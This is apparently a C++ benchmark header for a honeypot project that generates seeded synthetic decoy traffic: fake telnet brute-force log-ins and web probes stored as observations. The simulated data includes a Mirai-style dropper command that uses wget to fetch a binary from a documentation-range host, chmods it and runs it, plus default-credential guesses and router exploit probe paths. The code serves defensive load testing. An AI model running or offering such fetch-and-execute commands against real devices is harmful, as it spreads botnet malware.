// What decoys see on an ordinary day, made from a seed: the load of the benchmarks that store observations.
#pragma once

#include <array>
#include <cstdlib>
#include <deque>
#include <random>
#include <string>
#include <vector>

#include <fmt/core.h>

#include "base/result.hpp"
#include "model/batch.hpp"
#include "model/ports/observation_store.hpp"

namespace noroshi::bench {

using model::Field;
using model::Kind;

inline constexpr auto kGroupRows = std::size_t{50'000};
inline constexpr auto kBatchRows = std::size_t{500};
inline constexpr auto kDifferentGroups = std::size_t{8};

[[noreturn]] inline void give_up(Error const &error) {
  fmt::print(stderr, "bench: {}\n", error.sentence);
  std::exit(3);
}
inline void must(Result<void> const &result) {
  if (!result) give_up(result.error());
}
template <class T>
auto must(Result<T> result) -> T {
  if (!result) give_up(result.error());
  return *std::move(result);
}

/// A group of the kinds that decoys see: three of five visits are log-ins with commands, the others web requests.
class Traffic {
public:
  Traffic(std::uint64_t seed, std::uint32_t sources) : random_(seed), sources_(sources) {}

  void fill(std::vector<model::Observation> &group, std::size_t rows = kGroupRows) {
    group.clear();
    while (group.size() < rows) (draw(5) < 3 ? &Traffic::log_in : &Traffic::browse)(*this, group);
    group.resize(rows);
  }

  /// The next visits come from `start` on, one after the other within twice `between`.
  void set_pace(Time start, Duration between) {
    time_ = start;
    most_between_ = static_cast<std::uint64_t>(std::max<std::int64_t>(1, 2 * between.count()));
  }
  /// Lets go of the texts of earlier groups, which must not be read any more.
  void forget() { texts_.clear(); }

private:
  auto draw(std::uint64_t below) -> std::uint64_t { return random_() % below; }
  auto text(std::string made) -> std::string_view { return texts_.emplace_back(std::move(made)); }

  void begin(char const *service, std::uint16_t port) {
    time_ += Duration{static_cast<std::int64_t>(draw(most_between_))};
    next_ = {};
    next_.time = time_;
    next_.visit = model::Uuid::v7(time_, random_(), random_());
    auto const number = static_cast<std::uint32_t>(draw(sources_)) * 2'654'435'761U;
    next_.source = {model::IpAddress::v4(number), static_cast<std::uint16_t>(1'024 + draw(60'000))};
    next_.destination = {model::IpAddress::v4(0xc000'0200U + static_cast<std::uint32_t>(draw(64))), port};
    next_.service = service;
  }
  auto next(Kind kind) -> model::Observation & {
    auto fresh = model::Observation{};
    fresh.time = time_;
    fresh.visit = next_.visit;
    fresh.sequence = next_.sequence++;
    fresh.kind = kind;
    fresh.source = next_.source;
    fresh.destination = next_.destination;
    fresh.service = next_.service;
    current_ = fresh;
    return current_;
  }
  void close(std::vector<model::Observation> &to) {
    to.push_back(next(Kind::closed)
                     .set(Field::bytes_in, static_cast<std::int64_t>(draw(4'000)))
                     .set(Field::bytes_out, static_cast<std::int64_t>(draw(20'000)))
                     .set(Field::duration_ms, static_cast<std::int64_t>(draw(60'000)))
                     .set(Field::reason, "visitor"));
  }

  static void log_in(Traffic &self, std::vector<model::Observation> &to) {
    static constexpr auto kUsers = std::array<std::string_view, 6>{"root", "admin", "support", "user", "guest", "ubnt"};
    self.begin("telnet", 23);
    to.push_back(self.next(Kind::opened).set(Field::persona, "busybox-router").set(Field::protocol, "telnet"));
    for (auto i = std::uint64_t{0}; i <= self.draw(3); ++i)
      to.push_back(self.next(Kind::login)
                       .set(Field::username, kUsers[self.draw(6)])
                       .set(Field::password, self.text(fmt::format("{}{}", kUsers[self.draw(6)], self.draw(5'000))))
                       .set(Field::accepted, static_cast<std::int64_t>(self.draw(2))));
    for (auto const command : {"enable", "system", "shell"})
      to.push_back(self.next(Kind::command).set(Field::command, std::string_view{command}));
    auto const url = self.text(fmt::format("http://198.51.100.{}/bins/mirai.{}", self.draw(200), self.draw(12)));
    to.push_back(self.next(Kind::command)
                     .set(Field::command,
                          self.text(fmt::format("cd /tmp || cd /var/run; wget {} -O - > x; chmod 777 x; ./x", url))));
    to.push_back(self.next(Kind::download).set(Field::url, url));
    self.close(to);
  }
  static void browse(Traffic &self, std::vector<model::Observation> &to) {
    static constexpr auto kAgents =
        std::array<std::string_view, 4>{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
                                        "Go-http-client/1.1", "Mozilla/5.0 zgrab/0.x", "curl/7.88.1"};
    self.begin("http", 80);
    to.push_back(self.next(Kind::opened).set(Field::persona, "nginx").set(Field::protocol, "http"));
    for (auto i = std::uint64_t{0}; i <= self.draw(2); ++i)
      to.push_back(self.next(Kind::request)
                       .set(Field::method, "GET")
                       .set(Field::path, self.text(fmt::format("/cgi-bin/luci/;stok={}/setup.php?id={}", self.draw(500),
                                                               self.draw(2'000))))
                       .set(Field::host, self.text(fmt::format("203.0.113.{}:80", self.draw(64))))
                       .set(Field::user_agent, kAgents[self.draw(4)])
                       .set(Field::status, std::int64_t{404}));
    self.close(to);
  }

  std::mt19937_64 random_;
  std::uint32_t sources_;
  std::uint64_t most_between_ = 2'000;  // microseconds
  Time time_ = Time{Day{std::chrono::year{2026} / 11 / 21}} + std::chrono::hours{9};
  model::Observation next_, current_;
  std::deque<std::string> texts_;
};

struct Group {
  std::vector<model::Observation> rows;
  std::vector<std::string> frames;
  std::vector<model::ReceivedBatch> batches;
};

inline auto make_group(Traffic &traffic) -> Group {
  auto group = Group{};
  traffic.fill(group.rows);
  auto const received = Time{Day{std::chrono::year{2026} / 11 / 21}} + std::chrono::hours{10};
  for (auto at = std::size_t{0}; at < kGroupRows; at += kBatchRows) {
    auto &frames = group.frames.emplace_back();
    for (auto i = at; i < at + kBatchRows; ++i) model::append_frame(frames, group.rows[i]);
  }
  for (auto i = std::size_t{0}; i < group.frames.size(); ++i)
    group.batches.push_back({{static_cast<std::int64_t>(i % 20 + 1)}, received, group.frames[i]});
  return group;
}

}  // namespace noroshi::bench
